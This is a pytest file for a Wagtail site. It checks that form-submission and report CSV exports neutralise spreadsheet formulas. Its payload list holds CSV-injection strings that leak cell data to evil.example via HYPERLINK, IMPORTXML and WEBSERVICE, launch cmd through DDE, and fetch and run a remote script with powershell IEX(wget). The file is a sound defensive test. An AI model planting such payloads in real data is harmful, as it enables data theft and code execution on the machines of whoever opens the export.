"""Wagtail's own form-submissions CSV export, formula-safe: visitors' answers that a
spreadsheet would run as formulas (CSV injection) are exported as text."""

import csv
import io
from typing import Any

import pytest
from wagtail.contrib.forms.models import FormSubmission

from commonground.core.spreadsheet_cells import FORMULA_STARTS

from ..conftest import client_for
from ..form_posts import PublicFormClient
from .factories import LandingPageFactory

# The twelve payloads: what spreadsheet programs run (Excel, LibreOffice, Google Sheets).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@A1",
    "=cmd|'/C powershell IEX(wget evil.example/s)'!A0",
    '=IMAGE("https://evil.example/pixel.png")',
]
# Stored as given by other paths (imports, the API): leading whitespace and control
# characters, which the public form's fields strip.
RAW = ["  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", " +cmd|' /C calc'!A0"]


def _runs(cell: str) -> bool:
    return cell.lstrip(" \u00a0\u3000").startswith(FORMULA_STARTS)


def _export(landing: Any, user: Any) -> list[dict[str, str]]:
    response = client_for(user).get(f"/admin/forms/submissions/{landing.pk}/", {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.django_db
def test_every_formula_a_visitor_sends_is_exported_as_text(home: Any, publisher: Any) -> None:
    landing = LandingPageFactory(parent=home, title="Formula launch")
    for formula in FORMULAS:
        answer = {"full_name": formula, "email": "ada@example.com", "interest": "Demo"}
        response = PublicFormClient(form=landing.form_token_name).post(
            landing.url, {**answer, "message": formula}
        )
        assert response.status_code == 200 and "Thank you" in response.content.decode()
    assert FormSubmission.objects.filter(page=landing).count() == len(FORMULAS)

    rows = _export(landing, publisher)

    assert len(rows) == len(FORMULAS)
    cells = [row[column] for row in rows for column in ("Full name", "Message")]
    assert not [cell for cell in cells if _runs(cell)]
    assert sorted(cell.removeprefix("'") for cell in cells) == sorted(FORMULAS * 2)


@pytest.mark.django_db
def test_formulas_behind_spaces_and_controls_and_in_headings_are_text(
    home: Any, publisher: Any
) -> None:
    landing = LandingPageFactory(parent=home, title="Raw launch")
    field = landing.form_fields.get(clean_name="message")
    field.label = '=HYPERLINK("https://evil.example/","Message")'
    field.save()
    for value in RAW:
        FormSubmission.objects.create(page=landing, form_data={"full_name": value})

    rows = _export(landing, publisher)

    assert [row["Full name"] for row in rows if _runs(row["Full name"])] == []
    assert sorted(row["Full name"].removeprefix("'") for row in rows) == sorted(RAW)
    assert not [heading for heading in rows[0] if _runs(heading)]


@pytest.mark.django_db
def test_wagtail_s_own_reports_export_a_formula_title_as_text(home: Any, it_admin: Any) -> None:
    # Not a view of ours: Wagtail's "Aging pages" report, titles first. The guard
    # sits on Wagtail's export mixin, so reports we never subclassed are covered too.
    from .factories import StandardPageFactory

    StandardPageFactory(parent=home, title=FORMULAS[0], slug="formula-title")
    export = client_for(it_admin).get("/admin/reports/aging-pages/", {"export": "csv"})
    assert export.status_code == 200, export.status_code
    content = b"".join(export.streaming_content) if export.streaming else export.content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles and not [cell for cell in titles if _runs(cell)], titles
